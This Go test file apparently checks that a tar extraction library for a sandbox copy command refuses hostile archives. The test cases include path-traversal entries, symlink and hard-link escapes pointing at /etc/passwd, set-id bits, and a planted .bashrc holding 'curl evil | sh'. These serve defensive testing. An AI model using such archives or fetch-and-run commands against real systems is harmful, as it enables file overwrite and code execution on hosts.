package tarfs

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/smx-dev/smx/internal/errdefs"
)

type entry struct {
	name, link, body string
	typ              byte
	mode             int64
	size             int64 // header size when it must differ from body
}

func archive(t *testing.T, entries ...entry) *bytes.Buffer {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		if e.mode == 0 {
			e.mode = 0o644
		}
		h := &tar.Header{Name: e.name, Linkname: e.link, Typeflag: e.typ, Mode: e.mode, Size: int64(len(e.body))}
		if e.typ != tar.TypeReg {
			h.Size = 0
		}
		if e.typ == tar.TypeXGlobalHeader {
			h = &tar.Header{Name: e.name, Typeflag: e.typ, PAXRecords: map[string]string{"comment": "x"}}
		}
		if e.size != 0 {
			h.Size = e.size
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if e.typ == tar.TypeReg {
			tw.Write([]byte(e.body))
		}
	}
	if err := tw.Flush(); err != nil && !strings.Contains(err.Error(), "missed writing") {
		t.Fatal(err)
	}
	buf.Write(make([]byte, 1024))
	return &buf
}

// tree lists every path under dir with its mode and, for files, content.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	m := map[string]string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == dir {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		fi, _ := d.Info()
		v := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			v += " " + string(b)
		}
		m[rel] = v
		return nil
	})
	return m
}

func TestPackExtractRoundTrip(t *testing.T) {
	src := t.TempDir()
	os.MkdirAll(filepath.Join(src, "d", "e"), 0o750)
	os.WriteFile(filepath.Join(src, "d", "run.sh"), []byte("#!/bin/sh\n"), 0o755)
	os.WriteFile(filepath.Join(src, "d", "e", "f.txt"), []byte("data"), 0o600)
	os.Link(filepath.Join(src, "d", "e", "f.txt"), filepath.Join(src, "d", "hard"))
	os.Symlink("e/f.txt", filepath.Join(src, "d", "link"))
	os.Chmod(filepath.Join(src, "d", "e"), 0o550)
	t.Cleanup(func() { os.Chmod(filepath.Join(src, "d", "e"), 0o750) })
	var buf bytes.Buffer
	if err := Pack(&buf, filepath.Join(src, "d"), "d"); err != nil {
		t.Fatal(err)
	}
	dst := t.TempDir()
	if _, err := Extract(&buf, dst, Options{From: "d", Name: "copy"}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Chmod(filepath.Join(dst, "copy", "e"), 0o750) })
	for p, want := range map[string]os.FileMode{"copy": 0o750 | os.ModeDir, "copy/e": 0o550 | os.ModeDir, "copy/run.sh": 0o755, "copy/e/f.txt": 0o600} {
		fi, err := os.Lstat(filepath.Join(dst, p))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode() != want {
			t.Errorf("%s: mode %v, want %v", p, fi.Mode(), want)
		}
	}
	if l, _ := os.Readlink(filepath.Join(dst, "copy", "link")); l != "e/f.txt" {
		t.Errorf("symlink target %q", l)
	}
	a, _ := os.Stat(filepath.Join(dst, "copy", "hard"))
	b, _ := os.Stat(filepath.Join(dst, "copy", "e", "f.txt"))
	if !os.SameFile(a, b) {
		t.Error("hard link not kept")
	}
	if ents, _ := os.ReadDir(dst); len(ents) != 1 {
		t.Errorf("left in the destination: %v", ents)
	}
}

// TestExtractRefusesHostileStreams feeds the archives a hostile guest
// could send back for `smx agent cp NAME:/work/out DST/`: each is refused
// as a whole, nothing appears or changes outside, and nothing is left in
// the destination (not even the private directory).
func TestExtractRefusesHostileStreams(t *testing.T) {
	file := entry{name: "out", typ: tar.TypeReg, body: "ok"}
	dir := entry{name: "out/", typ: tar.TypeDir, mode: 0o755}
	cases := map[string][]entry{
		"dotdot":                 {dir, {name: "out/../evil", typ: tar.TypeReg, body: "x"}},
		"leading dotdot":         {file, {name: "../evil", typ: tar.TypeReg, body: "x"}},
		"absolute":               {file, {name: "/tmp/evil", typ: tar.TypeReg, body: "x"}},
		"other top name":         {file, {name: "evil", typ: tar.TypeReg, body: "x"}},
		"dotfile beside":         {file, {name: ".bashrc", typ: tar.TypeReg, body: "x"}},
		"dotslash other":         {file, {name: "./.bashrc", typ: tar.TypeReg, body: "x"}},
		"top name prefix":        {file, {name: "outx", typ: tar.TypeReg, body: "x"}},
		"replace top twice":      {file, {name: "out", typ: tar.TypeReg, body: "again"}},
		"file under file":        {file, {name: "out/x", typ: tar.TypeReg, body: "x"}},
		"before its directory":   {{name: "out/a/x", typ: tar.TypeReg, body: "x"}},
		"through symlink":        {dir, {name: "out/l", typ: tar.TypeSymlink, link: ".."}, {name: "out/l/evil", typ: tar.TypeReg, body: "x"}},
		"through inner symlink":  {dir, {name: "out/s/", typ: tar.TypeDir}, {name: "out/l", typ: tar.TypeSymlink, link: "s"}, {name: "out/l/f", typ: tar.TypeReg, body: "x"}},
		"symlink then same name": {dir, {name: "out/f", typ: tar.TypeSymlink, link: "../../outside"}, {name: "out/f", typ: tar.TypeReg, body: "x"}},
		"hard link outside":      {dir, {name: "out/h", typ: tar.TypeLink, link: "outside"}},
		"hard link dotdot":       {dir, {name: "out/h", typ: tar.TypeLink, link: "out/../outside"}},
		"hard link absolute":     {dir, {name: "out/h", typ: tar.TypeLink, link: "/etc/passwd"}},
		"hard link via symlink":  {dir, {name: "out/l", typ: tar.TypeSymlink, link: "/etc"}, {name: "out/h", typ: tar.TypeLink, link: "out/l/passwd"}},
		"top hard link":          {{name: "out", typ: tar.TypeLink, link: "outside"}},
		"char device":            {dir, {name: "out/null", typ: tar.TypeChar}},
		"block device":           {dir, {name: "out/sda", typ: tar.TypeBlock}},
		"fifo":                   {dir, {name: "out/p", typ: tar.TypeFifo}},
		"global header":          {dir, {name: "out/g", typ: tar.TypeXGlobalHeader}},
		"unclean name":           {dir, {name: "out//x", typ: tar.TypeReg, body: "x"}},
		"long name":              {dir, {name: "out/" + strings.Repeat("a", 5000), typ: tar.TypeReg, body: "x"}},
		"empty":                  {},
		"truncated":              {dir, {name: "out/big", typ: tar.TypeReg, body: "x", size: 1 << 20}},
	}
	for name, entries := range cases {
		t.Run(name, func(t *testing.T) {
			parent := t.TempDir()
			outside := filepath.Join(parent, "outside")
			os.WriteFile(outside, []byte("keep"), 0o644)
			dst := filepath.Join(parent, "dst")
			os.Mkdir(dst, 0o755)
			os.WriteFile(filepath.Join(dst, ".bashrc"), []byte("mine"), 0o644)
			before := tree(t, parent)
			_, err := Extract(archive(t, entries...), dst, Options{From: "out"})
			if err == nil {
				t.Fatal("the stream was accepted")
			}
			t.Log(err)
			if after := tree(t, parent); !equal(before, after) {
				t.Fatalf("the file system changed:\nbefore %v\nafter  %v", before, after)
			}
			if _, err := os.Lstat("/tmp/evil"); err == nil {
				t.Fatal("/tmp/evil written")
			}
		})
	}
}

func equal(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

func TestExtractRefusalIsDenied(t *testing.T) {
	_, err := Extract(archive(t, entry{name: "out", typ: tar.TypeReg}, entry{name: "../x", typ: tar.TypeReg}), t.TempDir(), Options{From: "out"})
	if !errors.Is(err, errdefs.ErrDenied) || !strings.Contains(err.Error(), "escapes") {
		t.Fatalf("err = %v, want a denied escape", err)
	}
}

// TestExtractDropsSpecialBits: set-id and sticky bits from the guest do
// not survive on the host.
func TestExtractDropsSpecialBits(t *testing.T) {
	dst := t.TempDir()
	_, err := Extract(archive(t,
		entry{name: "out/", typ: tar.TypeDir, mode: 0o1777},
		entry{name: "out/suid", typ: tar.TypeReg, mode: 0o4755, body: "x"},
		entry{name: "out/sgid", typ: tar.TypeReg, mode: 0o2755, body: "x"},
	), dst, Options{From: "out"})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"out": "drwxrwxrwx", "out/suid": "-rwxr-xr-x x", "out/sgid": "-rwxr-xr-x x"}
	if got := tree(t, dst); !equal(got, want) {
		t.Fatalf("got %v, want %v", got, want)
	}
}

func TestExtractLimits(t *testing.T) {
	for name, lim := range map[string]Limits{"bytes": {Bytes: 10}, "entries": {Entries: 3}} {
		t.Run(name, func(t *testing.T) {
			dst := t.TempDir()
			_, err := Extract(archive(t,
				entry{name: "out/", typ: tar.TypeDir},
				entry{name: "out/a", typ: tar.TypeReg, body: "123456"},
				entry{name: "out/b", typ: tar.TypeReg, body: "123456"},
				entry{name: "out/c", typ: tar.TypeReg, body: "1"},
			), dst, Options{From: "out", Limits: lim})
			if err == nil || !strings.Contains(err.Error(), "more than") {
				t.Fatalf("err = %v", err)
			}
			if ents, _ := os.ReadDir(dst); len(ents) != 0 {
				t.Fatalf("left behind: %v", ents)
			}
		})
	}
}

// TestExtractPlace: a new name appears by rename; an existing file is
// replaced; an existing directory is merged into (its other files kept);
// a directory never replaces a file nor a file a directory; a symlink
// named like the target is replaced, not followed.
func TestExtractPlace(t *testing.T) {
	dirStream := func() io.Reader {
		return archive(t, entry{name: "out/", typ: tar.TypeDir, mode: 0o755}, entry{name: "out/f", typ: tar.TypeReg, body: "new"})
	}
	t.Run("merge", func(t *testing.T) {
		dst := t.TempDir()
		os.MkdirAll(filepath.Join(dst, "out"), 0o755)
		os.WriteFile(filepath.Join(dst, "out", "f"), []byte("old"), 0o644)
		os.WriteFile(filepath.Join(dst, "out", "keep"), []byte("k"), 0o644)
		if _, err := Extract(dirStream(), dst, Options{From: "out"}); err != nil {
			t.Fatal(err)
		}
		want := map[string]string{"out": "drwxr-xr-x", "out/f": "-rw-r--r-- new", "out/keep": "-rw-r--r-- k"}
		if got := tree(t, dst); !equal(got, want) {
			t.Fatalf("got %v", got)
		}
	})
	t.Run("dir over file", func(t *testing.T) {
		dst := t.TempDir()
		os.WriteFile(filepath.Join(dst, "out"), []byte("old"), 0o644)
		if _, err := Extract(dirStream(), dst, Options{From: "out"}); err == nil {
			t.Fatal("a directory replaced a file")
		}
		if got := tree(t, dst); !equal(got, map[string]string{"out": "-rw-r--r-- old"}) {
			t.Fatalf("got %v", got)
		}
	})
	t.Run("file over symlink", func(t *testing.T) {
		dst := t.TempDir()
		secret := filepath.Join(t.TempDir(), "secret")
		os.WriteFile(secret, []byte("secret"), 0o644)
		os.Symlink(secret, filepath.Join(dst, "name"))
		if _, err := Extract(archive(t, entry{name: "out", typ: tar.TypeReg, body: "new"}), dst, Options{From: "out", Name: "name"}); err != nil {
			t.Fatal(err)
		}
		if b, _ := os.ReadFile(secret); string(b) != "secret" {
			t.Fatal("wrote through the symlink")
		}
		if got := tree(t, dst); !equal(got, map[string]string{"name": "-rw-r--r-- new"}) {
			t.Fatalf("got %v", got)
		}
	})
	t.Run("contents", func(t *testing.T) {
		dst := t.TempDir()
		s := archive(t, entry{name: "./", typ: tar.TypeDir, mode: 0o755}, entry{name: "a", typ: tar.TypeReg, body: "1"})
		if _, err := Extract(s, dst, Options{From: ".", Name: "new"}); err != nil {
			t.Fatal(err)
		}
		if got := tree(t, dst); !equal(got, map[string]string{"new": "drwxr-xr-x", "new/a": "-rw-r--r-- 1"}) {
			t.Fatalf("got %v", got)
		}
	})
}

// TestReceive goes through the entry point CLI and MCP copies share.
func TestReceive(t *testing.T) {
	send := func(entries ...entry) func(io.Writer) error {
		return func(w io.Writer) error {
			_, err := io.Copy(w, archive(t, entries...))
			return err
		}
	}
	t.Run("into directory", func(t *testing.T) {
		dst := t.TempDir()
		if _, err := Receive(dst, "/work/out.txt", Options{}, send(entry{name: "out.txt", typ: tar.TypeReg, body: "x"})); err != nil {
			t.Fatal(err)
		}
		if got := tree(t, dst); !equal(got, map[string]string{"out.txt": "-rw-r--r-- x"}) {
			t.Fatalf("got %v", got)
		}
	})
	t.Run("to file path", func(t *testing.T) {
		dst := t.TempDir()
		if _, err := Receive(filepath.Join(dst, "b.txt"), "/work/out.txt", Options{}, send(entry{name: "out.txt", typ: tar.TypeReg, body: "x"})); err != nil {
			t.Fatal(err)
		}
		if got := tree(t, dst); !equal(got, map[string]string{"b.txt": "-rw-r--r-- x"}) {
			t.Fatalf("got %v", got)
		}
	})
	t.Run("hostile extra entry", func(t *testing.T) {
		home := t.TempDir()
		os.WriteFile(filepath.Join(home, ".bashrc"), []byte("mine"), 0o644)
		_, err := Receive(home, "/work/out.txt", Options{}, send(
			entry{name: "out.txt", typ: tar.TypeReg, body: "x"},
			entry{name: ".bashrc", typ: tar.TypeReg, body: "curl evil | sh"}))
		if !errors.Is(err, errdefs.ErrDenied) {
			t.Fatalf("err = %v, want a refusal", err)
		}
		if got := tree(t, home); !equal(got, map[string]string{".bashrc": "-rw-r--r-- mine"}) {
			t.Fatalf("got %v", got)
		}
	})
	t.Run("contents into existing directory", func(t *testing.T) {
		home := t.TempDir()
		_, err := Receive(home, "/work/.", Options{}, send(entry{name: "./", typ: tar.TypeDir}, entry{name: ".bashrc", typ: tar.TypeReg, body: "x"}))
		if !errors.Is(err, errdefs.ErrInvalid) {
			t.Fatalf("err = %v", err)
		}
		if ents, _ := os.ReadDir(home); len(ents) != 0 {
			t.Fatalf("left behind: %v", ents)
		}
	})
	t.Run("sender error", func(t *testing.T) {
		boom := errors.New("no such file in the sandbox")
		_, err := Receive(t.TempDir(), "/x", Options{}, func(io.Writer) error { return boom })
		if !errors.Is(err, boom) {
			t.Fatalf("err = %v", err)
		}
	})
}

// TestPackSwap: a file swapped for a symlink (or another file) between
// the walk's lstat and its open is not followed: the pack fails and the
// secret the link points at is not in the stream.
func TestPackSwap(t *testing.T) {
	for _, swap := range []string{"symlink", "file", "dir symlink"} {
		t.Run(swap, func(t *testing.T) {
			secretDir := t.TempDir()
			secret := filepath.Join(secretDir, "secret")
			os.WriteFile(secret, []byte("TOP-SECRET"), 0o600)
			src := t.TempDir()
			os.MkdirAll(filepath.Join(src, "d", "sub"), 0o755)
			os.WriteFile(filepath.Join(src, "d", "f"), []byte("plain"), 0o644)
			victim := filepath.Join(src, "d", "f")
			if swap == "dir symlink" {
				victim = filepath.Join(src, "d", "sub")
			}
			testHookOpen = func(p string) {
				if p != victim {
					return
				}
				if swap == "file" {
					// Another inode under the same name (a hard link the
					// guest could not make, or a rename of one it could).
					os.Rename(secret, p)
					return
				}
				os.RemoveAll(p)
				switch swap {
				case "symlink":
					os.Symlink(secret, p)
				default:
					os.Symlink(secretDir, p)
				}
			}
			t.Cleanup(func() { testHookOpen = nil })
			var buf bytes.Buffer
			err := Pack(&buf, filepath.Join(src, "d"), "d")
			if err == nil || !strings.Contains(err.Error(), "changed while it was being copied") {
				t.Fatalf("err = %v, want a refusal of the swapped file", err)
			}
			if bytes.Contains(buf.Bytes(), []byte("TOP-SECRET")) {
				t.Fatal("the secret was copied")
			}
		})
	}
}

func TestPackOrder(t *testing.T) {
	src := t.TempDir()
	for _, n := range []string{"b", "a/z", "a/y", "c"} {
		os.MkdirAll(filepath.Dir(filepath.Join(src, "t", n)), 0o755)
		os.WriteFile(filepath.Join(src, "t", n), nil, 0o644)
	}
	var buf bytes.Buffer
	if err := Pack(&buf, filepath.Join(src, "t"), "t"); err != nil {
		t.Fatal(err)
	}
	var names []string
	tr := tar.NewReader(&buf)
	for {
		h, err := tr.Next()
		if err != nil {
			break
		}
		names = append(names, h.Name)
	}
	want := []string{"t/", "t/a/", "t/a/y", "t/a/z", "t/b", "t/c"}
	if !sort.StringsAreSorted(names) || strings.Join(names, " ") != strings.Join(want, " ") {
		t.Fatalf("names %v, want %v", names, want)
	}
}

// TestCheck: the stream an API client or `cp NAME:/path -` receives has
// passed the same rules: a hostile stream ends before its first bad
// entry with a refusal; a good one comes through, set-id bits dropped.
func TestCheck(t *testing.T) {
	names := func(b []byte) []string {
		var out []string
		tr := tar.NewReader(bytes.NewReader(b))
		for {
			h, err := tr.Next()
			if err != nil {
				return out
			}
			out = append(out, fmt.Sprintf("%s %c %o %s", h.Name, h.Typeflag, h.Mode, h.Linkname))
		}
	}
	var out bytes.Buffer
	_, err := Check(&out, archive(t,
		entry{name: "out/", typ: tar.TypeDir, mode: 0o2755},
		entry{name: "out/a", typ: tar.TypeReg, mode: 0o4755, body: "a"},
		entry{name: "out/h", typ: tar.TypeLink, link: "out/a"},
		entry{name: "../.bashrc", typ: tar.TypeReg, body: "evil"},
	), Options{From: "out"})
	if !errors.Is(err, errdefs.ErrDenied) {
		t.Fatalf("err = %v, want a refusal", err)
	}
	if got, want := strings.Join(names(out.Bytes()), "|"), "out/ 5 755 |out/a 0 755 |out/h 1 644 out/a"; got != want {
		t.Fatalf("passed on %q, want %q", got, want)
	}
	if bytes.Contains(out.Bytes(), []byte("evil")) {
		t.Fatal("the refused entry's content was passed on")
	}

	out.Reset()
	_, err = Check(&out, archive(t,
		entry{name: "./", typ: tar.TypeDir, mode: 0o755},
		entry{name: "a", typ: tar.TypeReg, body: "a"},
		entry{name: "h", typ: tar.TypeLink, link: "a"},
	), Options{From: "."})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Join(names(out.Bytes()), "|"), "./ 5 755 |a 0 644 |h 1 644 a"; got != want {
		t.Fatalf("passed on %q, want %q", got, want)
	}
}

// FuzzExtract: whatever the stream, the destination holds afterwards
// either nothing (refused) or only the one name the host chose, and
// nothing beside it changed.
func FuzzExtract(f *testing.F) {
	t := &testing.T{}
	f.Add(archive(t, entry{name: "out", typ: tar.TypeReg, body: "x"}).Bytes())
	f.Add(archive(t, entry{name: "out/", typ: tar.TypeDir}, entry{name: "out/l", typ: tar.TypeSymlink, link: ".."}, entry{name: "out/l/x", typ: tar.TypeReg}).Bytes())
	f.Add(archive(t, entry{name: "out/", typ: tar.TypeDir}, entry{name: "out/a", typ: tar.TypeReg, body: "a"}, entry{name: "out/h", typ: tar.TypeLink, link: "out/a"}).Bytes())
	f.Add(archive(t, entry{name: "out", typ: tar.TypeReg}, entry{name: "../x", typ: tar.TypeReg}).Bytes())
	f.Fuzz(func(t *testing.T, b []byte) {
		parent := t.TempDir()
		dst := filepath.Join(parent, "dst")
		os.Mkdir(dst, 0o755)
		os.WriteFile(filepath.Join(parent, "keep"), []byte("keep"), 0o644)
		_, err := Extract(bytes.NewReader(b), dst, Options{From: "out", Name: "name", Limits: Limits{Bytes: 1 << 20, Entries: 1000}})
		ents, _ := os.ReadDir(dst)
		switch {
		case err != nil && len(ents) != 0:
			t.Fatalf("refused (%v) but left %v", err, ents)
		case err == nil && (len(ents) != 1 || ents[0].Name() != "name"):
			t.Fatalf("accepted but the destination holds %v", ents)
		}
		if pe, _ := os.ReadDir(parent); len(pe) != 2 {
			t.Fatalf("beside the destination: %v", pe)
		}
		if k, _ := os.ReadFile(filepath.Join(parent, "keep")); string(k) != "keep" {
			t.Fatal("a file beside the destination changed")
		}
		// Read-only directories from the stream must not stop cleanup.
		filepath.WalkDir(dst, func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.IsDir() {
				os.Chmod(p, 0o755)
			}
			return nil
		})
	})
}
